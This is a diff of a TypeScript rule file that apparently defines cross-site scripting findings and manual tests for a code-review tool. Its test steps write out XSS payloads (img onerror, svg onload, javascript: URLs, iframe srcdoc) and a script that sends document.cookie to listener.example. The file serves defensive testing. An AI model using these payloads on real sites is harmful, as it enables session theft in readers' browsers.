@@ -7,7 +7,25 @@ const TEXT =
 /** What is handed in and looked at. */
 const FILE =
   "[file:logo|icon|avatar|emoji|attachment|image|picture|asset|signature|diagram|drawing|upload|badge|cover|media|prototype|build|game|export|theme|sticker|portfolio|submission|document]";
+/** Further places of text, for sentences that name no plainer one. */
+const WIDER =
+  "[text:story|excerpt|checklist|step|reason|greeting|footer|header|popup|ribbon|macro|feedback|result|reference|chat|term|cell|legend|tag|hashtag|mention|contact|ad|update|template|block|report|event|mail|email|form|widget|diagram|place|field|text|page]";
 const WRITER = "[who:<staff|admin|customer|partner>]";
+
+/** What comes back from an address. */
+const shownAs = (patterns: readonly string[]): string[] => [
+  ...patterns.map(
+    (pattern) =>
+      `${pattern} & [back:term|headline|title|greeting|message|name|parameter|colour|text|search|error|label]`,
+  ),
+  ...patterns,
+];
+
+/** Each pattern with the text that its sentence names. */
+const inText = (patterns: readonly string[]): string[] => [
+  ...patterns.map((pattern) => `${pattern} & ${TEXT}`),
+  ...patterns,
+];
 
 const READERS = "Staging, an account that may write it, and a second browser of a reader with its console open.";
 
@@ -23,6 +41,7 @@ const CLEANED: Situation["control"] = {
 /** Each pattern, first with what else its sentence names. */
 const beside = (more: string, patterns: readonly string[]): string[] => [
   ...patterns.map((pattern) => `${pattern} & ${more}`),
+  ...patterns.map((pattern) => `${pattern} & ${WIDER}`),
   ...patterns,
 ];
 
@@ -41,8 +60,8 @@ function inserts(sink: string, shown: string, raises: string, silent: string, mo
       `A script in text that ${shown} inserts can run for its readers`,
     ],
     so: [
-      `${shown} has the browser parse it as HTML. If a person or an outside system writes the {text}, a tag with an event handler in it runs in the session of whoever looks at it, unless it is cleaned before.`,
-      `${shown} has the browser parse it as HTML. Where a person or an outside system writes part of that text, a tag with an event handler in it runs for whoever looks at it, unless it is cleaned before.`,
+      `With ${shown}, the browser parses it as HTML. If a person or an outside system writes the {text}, a tag with an event handler in it runs in the session of whoever looks at it, unless it is cleaned before.`,
+      `With ${shown}, the browser parses it as HTML. Where a person or an outside system writes part of that text, a tag with an event handler in it runs for whoever looks at it, unless it is cleaned before.`,
     ],
     control: {
       when: ["sanitized|sanitised|sanitizer|sanitiser|sanitize|dompurify|bleach|purify", "escaped|escapehtml"],
@@ -206,10 +225,10 @@ export const xss: Situations = [
       `${TEXT} .. no longer .. [filter:sanitized|sanitised|escaped|bleach|dompurify|sanitizer|sanitiser]`,
       "old [filter:cleaner|sanitizer|sanitiser|filter] removed too much",
       `switched|switch|turned|turn the? [filter:sanitizer|sanitiser|escaping|dompurify|bleach] off for ${TEXT}`,
-      `${TEXT} .. [filter:unescaped]`,
-      "shown|printed|inserted|echoed|output|rendered [filter:unescaped]",
-      "shown|printed|inserted|echoed|output|rendered without [filter:escaping]",
-      `${TEXT} ... without [filter:escaping]`,
+      `${TEXT} .. [raw:unescaped]`,
+      "shown|printed|inserted|echoed|output|rendered [raw:unescaped]",
+      "shown|printed|inserted|echoed|output|rendered without [raw:escaping]",
+      `${TEXT} ... without [raw:escaping]`,
     ],
     unless: [
       "without .. escaping .. was|before",
@@ -224,8 +243,10 @@ export const xss: Situations = [
     severity: "high",
     because: "what was cleaned until now reaches the browser of each reader as it was typed",
     name: [
-      "{text} without cleaning ({filter}) can run a script for each reader",
-      "Markup that “{filter}” stood against can run a script for each reader",
+      "A script in the {text} can run for each reader without its cleaning ({filter})",
+      "With the {filter} out of the way, typed markup can run a script for each reader",
+      "A script in the {text} can run for each reader as it is shown without escaping",
+      "Markup shown without escaping can run a script for each reader",
     ],
     so: [
       "Tags in the {text} then reach the page as they were typed: whoever writes it can store an event handler that acts in the session of each reader.",
@@ -263,7 +284,24 @@ export const xss: Situations = [
     "innerHTML",
     "Big screen\n\nThe team's name is set by innerHTML, some have a flag in it.",
     "Big screen\n\nThe team's name is cut after twenty letters.",
-    ["insertadjacenthtml", "outerhtml"],
+  ),
+  inserts(
+    "insertadjacenthtml",
+    "insertAdjacentHTML",
+    "Bid list\n\nEach new bid is put on top with insertAdjacentHTML, the label of the bidder in front.",
+    "Bid list\n\nEach new bid is put on top with its time.",
+  ),
+  inserts(
+    "outerhtml",
+    "outerHTML",
+    "Placeholders\n\nThe caption of the card is written to outerHTML of the grey box.",
+    "Placeholders\n\nThe grey box is as high as the card that follows.",
+  ),
+  inserts(
+    "sethtml",
+    "setHTML",
+    "Route map\n\npopup.setHTML gets the note of the stop.",
+    "Route map\n\nThe stop has a number in its circle.",
   ),
   inserts(
     "v html",
@@ -294,7 +332,6 @@ export const xss: Situations = [
     "bindPopup",
     "Map\n\nmarker.bindPopup gets the name from the imported file.",
     "Map\n\nMarkers are grouped when zoomed out far.",
-    ["sethtml"],
   ),
   inserts(
     "triple|three braces|mustache|stash",
@@ -404,7 +441,7 @@ export const xss: Situations = [
     severity: "high",
     because: "the file's script acts with the session of each person who opens it",
     name: "A script in HTML handed in as {file} can act when it is opened",
-    so: "A browser runs the scripts of an HTML or SVG file that it opens instead of saving. If such a {file} comes from the site's own domain, its author acts with the session of whoever opened it.",
+    so: "A browser runs the scripts of an HTML or SVG file that it opens instead of saving. If what is handed in as {file} comes from the site's own domain, its author acts with the session of whoever opened it.",
     control: {
       when: ["separate|second|cookieless domain|subdomain|host", "sandbox|sandboxed", "nosniff"],
       so: "Check that it holds for the file's own address as well as for the preview, and that the other host receives no session cookie.",
@@ -696,11 +733,11 @@ export const xss: Situations = [
     id: "stores-typed-html",
     when: [
       `${TEXT} .. stored|saved|kept|accepts|accept|take|takes|allow|allows|allowed|contain|contains|with|support|supports|may|can|be|in|as .. html`,
-      `${TEXT} ... raw html`,
+      `${TEXT} .. raw html`,
       `allow|allows|enable|enables|enabled|accept|support|keep|keeps|permit .. html .. in|for|of|content .. ${TEXT}`,
       `html .. allowed|stored|kept|enabled|accepted|saved|supported .. in|for|as .. ${TEXT}`,
       `rich text|wysiwyg .. for|in|on .. ${TEXT}`,
-      `${TEXT} ... rich text|wysiwyg`,
+      `${TEXT} .. rich text|wysiwyg`,
       `${TEXT} .. stored|saved ... html`,
       `write|writes|type|types|enter|use|with .. html .. ${TEXT}`,
       `macro html .. enabled in ${TEXT}`,
@@ -847,18 +884,19 @@ export const xss: Situations = [
   {
     id: "cleaning-switched-off",
     byTopic: true,
-    when: [
+    when: inText([
       "[filter:sanitize|sanitise|sanitizer|sanitiser|sanitization|escaping|autoescape|dompurify|cleaner|cleaning] .. false|off|disabled|gone|none",
       "drop|drops|remove|removes|skip|disable|disables .. [filter:sanitizer|sanitiser|sanitizing|sanitising|sanitization|escaping|autoescape|dompurify|cleaner|cleaning]",
       "no_longer|not|never|isn't|aren't [filter:sanitized|sanitised|escaped|cleaned|encoded]",
-    ],
+    ]),
     cwe: 79,
     severity: "high",
     because: "whatever an author sends runs with the session of each reader once it is no longer cleaned",
     name: [
       "Without its cleaning, {endpoint} hands scripts to its readers",
-      "“{line}”: an author's script runs for readers",
+      "A script in the {text} runs for readers where the cleaning is off",
       "Around {code}, an author's script runs for readers",
+      "“{line}”: an author's script runs for readers",
       "An author's script runs for readers where the cleaning is off",
     ],
     so: "So tags and event handlers reach the reader's browser as the author sent them, and each reader's session does what they say, unless another step cleans the text or shows it apart from the product's pages.",
@@ -920,7 +958,6 @@ export const xss: Situations = [
     because: "any page that frames it or is framed by it can send such a message",
     name: [
       "A message from a foreign frame can put a script into the page of {endpoint}",
-      "“{line}”: any frame may send it",
       "A message from a foreign frame can put a script into the page",
     ],
     so: "So any window that holds a reference to the page may send the message. What it carries then acts inside the page, unless the sender's origin is compared with a list and the content is set as text.",
@@ -987,7 +1024,7 @@ export const xss: Situations = [
   {
     id: "loosens-cleaning",
     byTopic: true,
-    when: [
+    when: inText([
       "[filter:sanitiser|sanitizer|sanitisation|sanitization|sanitize|sanitise|sanitising|sanitizing|purify|dompurify|bleach|cleaner]",
       "allow|allows|permit|let|lets .. iframe|script|style|object|embed",
       "[filter:safe] html types|tags|attributes|list",
@@ -995,14 +1032,16 @@ export const xss: Situations = [
       "allow|permit|let <markup> [filter:tags|attributes|elements]",
       "content security [filter:policy]",
       "[filter:csp] .... unsafe|inline|off|remove|drop|relax|allow",
-    ],
+    ]),
     cwe: 79,
     severity: "medium",
     because: "whatever passes the cleaning runs with the session of each reader",
     name: [
       "Markup that the changed cleaning lets through can run for readers of {endpoint}",
-      "“{line}”: what now passes can run for readers",
+      "Markup that the changed cleaning leaves in the {text} can run",
+      "Where {doer} may {deed}, markup that is let through can run",
       "Around {code}, markup that is let through can run for readers",
+      "“{line}”: what now passes can run for readers",
       "Markup that the changed cleaning lets through can run for its readers",
     ],
     so: "So what reaches the page is now what the cleaning lets through. Tags, attributes and addresses that can hold a script are the question, and whether anything alters the text after it was cleaned.",
@@ -1011,7 +1050,10 @@ export const xss: Situations = [
       title: "Send what the cleaning may let through",
       setUp: READERS,
       steps: [
-        "As the author, save <img src=x onerror=alert(1)>, <svg><a href=javascript:alert(1)>x</a></svg> and <iframe srcdoc='<script>alert(1)</script>'>.",
+        [
+          "As its author, save as {text} <img src=x onerror=alert(1)>, <svg><a href=javascript:alert(1)>x</a></svg> and <iframe srcdoc='<script>alert(1)</script>'>.",
+          "As the author, save <img src=x onerror=alert(1)>, <svg><a href=javascript:alert(1)>x</a></svg> and <iframe srcdoc='<script>alert(1)</script>'>.",
+        ],
         "Save <math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>, which changes when it is parsed twice.",
         "Save <div style='position:fixed;inset:0'>Sign in again</div>.",
         "In the second browser, open each and follow its links.",
@@ -1041,7 +1083,6 @@ export const xss: Situations = [
     because: "a file opened under the product's own address acts with the session of whoever opens it",
     name: [
       "A script in {file} files can run in the session of whoever opens them",
-      "“{line}”: a script in a file can run for whoever opens it",
       "A script in a handed-in file can run in the session of whoever opens it",
     ],
     so: "So a file that a browser takes for a page is opened under the product's address, and a script in it may act as the person who opens it, unless it is served as a download or from an address without sessions.",
@@ -1080,8 +1121,9 @@ export const xss: Situations = [
     severity: "medium",
     because: "what is framed or embedded can act in the page around it, for everybody who opens that page",
     name: [
-      "Embedded content in the {text} can act in the page around it",
       "What is embedded at {endpoint} can act in the page around it",
+      "What is embedded in the {text} can act in the page around it",
+      "Where {doer} may {deed}, embedded content can act in the page around it",
       "“{line}”: what is embedded can act in the page around it",
       "Around {code}, embedded content can act in the page around it",
       "Embedded content can act in the page around it",
@@ -1093,10 +1135,13 @@ export const xss: Situations = [
     },
     test: {
       act: "inject-input",
-      title: "Embed content that tries to leave its frame",
+      title: ["Embed in the {text} what tries to leave its frame", "Embed content that tries to leave its frame"],
       setUp: READERS,
       steps: [
-        "As the author, embed javascript:alert(document.domain), data:text/html,<script>alert(1)</script> and a page of the tester's own.",
+        [
+          "As the author, embed in the {text} javascript:alert(document.domain), data:text/html,<script>alert(1)</script> and a page of the tester's own.",
+          "As the author, embed javascript:alert(document.domain), data:text/html,<script>alert(1)</script> and a page of the tester's own.",
+        ],
         'Embed an address that ends in "></iframe><img src=x onerror=alert(document.domain)>.',
         "In the second browser, open the result; let the tester's page call top.location and parent.document.",
       ],
@@ -1125,8 +1170,8 @@ export const xss: Situations = [
     name: [
       "A javascript: address in the {text} can run on a click",
       "A javascript: address sent to {endpoint} can run on a click",
-      "“{line}”: a javascript: address in it can run",
       "Around {code}, a javascript: address can run on a click",
+      "“{line}”: a javascript: address in it can run",
       "A javascript: address behind a link can run on a click",
     ],
     so: "So an address that others supplied is followed by the browser. Where its scheme is not held to http and https, javascript: makes the click a script in the page.",
@@ -1139,7 +1184,10 @@ export const xss: Situations = [
       title: "Supply addresses that are scripts and follow them",
       setUp: READERS,
       steps: [
-        "As the author, supply javascript:alert(document.domain) as the address that the quoted line is about.",
+        [
+          "As the author, supply javascript:alert(document.domain) as an address in the {text}.",
+          "As the author, supply javascript:alert(document.domain) as the address that the quoted line is about.",
+        ],
         "Supply JaVaScRiPt:alert(1), one blank before javascript:, java, a tab and script:, and data:text/html,<script>alert(1)</script>.",
         "In the second browser, follow each, by click and with the middle button.",
       ],
@@ -1153,7 +1201,7 @@ export const xss: Situations = [
     byTopic: true,
     when: [
       "[what:script|scripts|javascript|js|snippet|snippets|shortcode|plugin|plugins] .... tag|paste|own|custom|set|edit|upload|theme|runs|run|page|head|site|source|themselves|hand|footer|header|load|gets|allow",
-      "[what:theme|themes|template|templates|layout|bracket|head|footer|header|banner|landing|skin] .... html|unescaped|script|markup|js|raw|inserted|evaluated",
+      "[what:template|templates|layout|bracket|head|footer|header|banner|landing|skin] .... html|unescaped|script|markup|js|raw|inserted|evaluated",
       "custom|own|edit|raw|full [what:html|javascript|markup]",
     ],
     unless: ["build|npm|shell|migration|deploy|ci script|scripts", "type|java script .. migration"],
@@ -1162,7 +1210,7 @@ export const xss: Situations = [
     because: "the script acts with the rights of every reader, administrators included",
     name: [
       "Whoever may set the {what} of {endpoint} can act as each reader",
-      "“{line}”: its author can act as each reader",
+      "Where {doer} may {deed}, the author can act as each reader",
       "Whoever may set the {what} can act as each of its readers",
     ],
     so: "So the right to write this is the right to act as anyone who opens it: a script in it reads their page and sends requests in their name, unless it runs on an address without their session.",
@@ -1175,7 +1223,7 @@ export const xss: Situations = [
       title: "Write a script as the author with the fewest rights",
       setUp: "An account with the fewest rights that may write it, one with more rights, and a listener for requests.",
       steps: [
-        "As the first, put <script>fetch('https://listener.example/?'+document.domain)</script> where the quoted line lets it be written.",
+        ["As the first, put <script>fetch('https://listener.example/?'+document.domain)</script> into the {what}."],
         "Put <img src=x onerror=\"fetch('https://listener.example/?'+document.cookie)\"> in the same place.",
         "As the second account, open what shows it, and the administration pages too.",
       ],
@@ -1253,7 +1301,7 @@ export const xss: Situations = [
   {
     id: "repeats-the-address",
     byTopic: true,
-    when: [
+    when: shownAs([
       "from|in|by the? [place:address|url|query|hash|fragment]",
       "[place:parameter|param|params|querystring|searchparams] .... shown|page|headline|inserted|html|printed|text|title|name|template",
       "search [place:term|query] .... repeated|repeats|headline|shown|bold|results",
@@ -1262,14 +1310,15 @@ export const xss: Situations = [
       "error page|message .... shows|prints|request|input",
       "<endpoint> .. name|title|text|h|home|color|css|back|next|theme|url|msg|error",
       "data [place:attributes|attribute]",
-    ],
+    ]),
     cwe: 79,
     severity: "medium",
     because: "a prepared link is enough, and it acts with the session of whoever opens it",
     name: [
       "A link to {endpoint} can bring its own script",
-      "“{line}”: a prepared link can bring its own script",
+      "A link whose {back} comes back in the page can bring its own script",
       "Around {code}, a prepared link can bring its own script",
+      "“{line}”: a prepared link can bring its own script",
       "A prepared link can bring its own script into the page",
     ],
     so: "So a value that the caller chooses comes back in the page. Where it is not encoded for exactly that place, whoever follows a prepared link runs the script it carries.",
@@ -1281,6 +1330,7 @@ export const xss: Situations = [
       steps: [
         [
           "Open {endpoint} with <img src=x onerror=alert(document.domain)> as each value that comes back in the page.",
+          "Open the page with <img src=x onerror=alert(document.domain)> as the {back} in its address.",
           "Open the page that the quoted line is about with <img src=x onerror=alert(document.domain)> as the value that comes back.",
         ],
         "Open it with \"><svg onload=alert(1)>, with ';alert(1)// and with javascript:alert(1).",
@@ -1316,18 +1366,25 @@ export const xss: Situations = [
     name: [
       "A tag in the {text} can run because it is inserted as HTML",
       "Text sent to {endpoint} reaches the browser as code",
-      "“{line}”: a tag in that text can run",
       "Through {code}, a tag in the text can run for its readers",
+      "“{line}”: a tag in that text can run",
       "A tag in text inserted as HTML can run for its readers",
     ],
     so: "So the text reaches the browser as markup and not as text. Where a person or an outside system supplies part of it, a tag with an event handler runs for each reader, unless it is cleaned before.",
     control: CLEANED,
     test: {
       act: "inject-input",
-      title: ["Put event handlers into what reaches {code}", "Put event handlers into the inserted text"],
+      title: [
+        "Put event handlers into the {text}",
+        "Put event handlers into what reaches {code}",
+        "Put event handlers into the inserted text",
+      ],
       setUp: READERS,
       steps: [
-        "As the author, set the text that the quoted line inserts to <img src=x onerror=alert(document.domain)>.",
+        [
+          "As its author, set the {text} to <img src=x onerror=alert(document.domain)>.",
+          "As the author, set the text that the quoted line inserts to <img src=x onerror=alert(document.domain)>.",
+        ],
         "Set it to \"><svg onload=alert(1)>, to {{7*7}} and to ');alert(1);//.",
         "After each, open what displays it in the second browser.",
       ],
@@ -1355,8 +1412,10 @@ export const xss: Situations = [
     severity: "medium",
     because: "what one person formats runs with the session of each person who reads it",
     name: [
+      "A tag in the {text} sent to {endpoint} can run for its readers",
       "A tag in the {text} can run for its readers",
       "Markup sent to {endpoint} as formatted text can run for its readers",
+      "Where {doer} may {deed}, a tag in it can run for readers",
       "“{line}”: a tag in it can run for its readers",
       "Around {code}, a tag in formatted text can run for its readers",
       "A tag in text with {format} can run for its readers",
@@ -1366,10 +1425,12 @@ export const xss: Situations = [
     control: CLEANED,
     test: {
       act: "inject-input",
-      title: "Send more than the permitted formatting",
+      title: ["Send more than formatting as {text}", "Send more than the permitted formatting"],
       setUp: READERS,
       steps: [
         [
+          "As its author, send <img src=x onerror=alert(document.domain)> as {text} to {endpoint} by hand.",
+          "As its author, save the {text}, with what was typed replaced in the request by <img src=x onerror=alert(document.domain)>.",
           "As the author, send <img src=x onerror=alert(document.domain)> to {endpoint} by hand as the formatted text.",
           "As the author, send <img src=x onerror=alert(document.domain)> by hand as the text that the quoted line is about.",
         ],
@@ -1395,8 +1456,8 @@ export const xss: Situations = [
     because: "whoever runs the source decides what is sent, and it runs in the session of the reader here",
     name: [
       "A script in the {source} can run where {endpoint} displays it",
-      "“{line}”: markup from outside can run for readers",
       "Markup from the {source} can run for readers here",
+      "“{line}”: markup from outside can run for readers",
       "Markup from an outside source can run for readers here",
     ],
     so: "So text that the product did not write is put before its users. Whoever runs the source puts a tag there, and it runs in the reader's session, unless the text is encoded where it is displayed.",
@@ -1426,14 +1487,19 @@ export const xss: Situations = [
       "[text:tooltip|tooltips|popover|popovers|legend|badge|notification|notifications|toast] .... text|name|html|shows|title|message",
       "volunteers|visitors|guests|customers|members|leads .. apply|write|request|type|enter|comment",
     ],
-    unless: ["file|host|domain|class|variable|function name|names", "commit|release notes"],
+    unless: [
+      "file|host|domain|class|variable|function name|names",
+      "commit|release notes",
+      "autocomplete|hash|price tag",
+    ],
     cwe: 79,
     severity: "medium",
     because: "one place that does not encode it is enough, and it then acts for each reader",
     name: [
       "Markup in the {text} sent to {endpoint} can run where others read it",
+      "A tag typed into the {text} can run for whoever reads it",
+      "Where {doer} may {deed}, a tag in it can run for readers",
       "“{line}”: a tag in that text can run for its readers",
-      "Markup in the {text} can run in some place that displays it",
       "Markup that is typed can run in some place that displays it",
     ],
     so: "So one person's text is put before others. In any place that builds HTML from it without encoding, such as a list, a title, a mail or a tooltip, a tag in it runs for the reader.",
@@ -1462,7 +1528,7 @@ export const xss: Situations = [
     severity: "medium",
     because: "a script that runs there acts with the rights of whoever opens it",
     name: [
-      "{doer} can {deed}, and a script in it may run in browsers",
+      "Where {doer} may {deed}, a script in it may run in browsers",
       "A script sent to {endpoint} may run in a reader's browser",
       "A script that reaches {code} may run in a reader's browser",
       "“{line}”: markup in it may run in a reader's browser",
